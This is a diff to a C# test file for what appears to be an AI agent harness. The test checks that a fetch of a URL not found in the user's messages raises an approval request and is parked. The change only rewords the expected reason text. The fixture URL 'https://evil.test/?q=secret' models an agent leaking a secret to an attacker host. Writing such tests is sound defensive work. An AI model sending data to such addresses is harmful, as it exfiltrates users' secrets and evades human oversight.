@@ -45,7 +45,7 @@ public sealed class MadeUpAddressTests : IAsyncLifetime
         Assert.Equal(["https://start.test/"], _read);
         var asked = events.Single(each => each.Name == "approval_request");
         Assert.Equal("""{"url":"https://evil.test/?q=secret"}""", asked.Text("arguments"));
-        Assert.Contains("in no message of yours", asked.Text("reason"), StringComparison.Ordinal);
+        Assert.Contains("in none of the user's messages", asked.Text("reason"), StringComparison.Ordinal);
         Assert.Equal("made_up_address", asked.Text("reason_code"));
         Assert.Null(asked.Text("allows_always"));
         Assert.Equal("parked", events[^1].Name);
